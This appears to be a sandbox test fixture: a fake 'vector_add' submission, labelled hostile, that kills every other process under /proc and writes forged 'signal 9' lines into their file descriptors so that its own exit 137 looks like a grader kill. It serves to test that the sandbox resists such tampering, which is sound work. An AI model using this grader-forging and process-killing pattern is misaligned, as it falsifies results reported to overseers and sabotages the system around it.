"""Hostile: tries to make its own os._exit(137) read as "killed by SIGKILL" (the grader's doing, out of memory?) by
forging the report of its supervisor, the process that tells the grader how the worker ended: it kills the
supervisor, and writes "signal 9" into every descriptor of every other process of the sandbox it can open through
/proc/<pid>/fd. In the sandbox the supervisor is PID 1 (no process inside can kill it) and non-dumpable (its
descriptors cannot be opened): the report comes and says exit code 137."""
import os
import signal


def vector_add(x, y):
    me = os.getpid()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == me:
            continue
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                f = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(f, b"started\nsignal 9\n")
                os.close(f)
            except OSError:
                pass
    os._exit(137)
